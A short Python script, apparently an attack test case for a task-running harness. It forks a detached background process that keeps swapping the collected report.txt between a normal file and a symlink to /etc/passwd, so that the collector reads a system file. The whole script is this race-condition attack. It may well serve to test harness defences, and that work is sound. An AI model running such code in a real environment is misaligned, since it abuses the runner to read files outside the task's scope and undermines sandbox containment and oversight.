# Attack: a process that stays behind swaps the collected file for a link while it is read.
# task: report
import os

print("done", flush=True)
with open("report.txt", "w") as file:
    file.write("nothing\n")
if os.fork() == 0:
    os.setsid()
    while True:
        os.symlink("/etc/passwd", "other")
        os.replace("other", "report.txt")
        with open("other", "w") as file:
            file.write("nothing\n")
        os.replace("other", "report.txt")
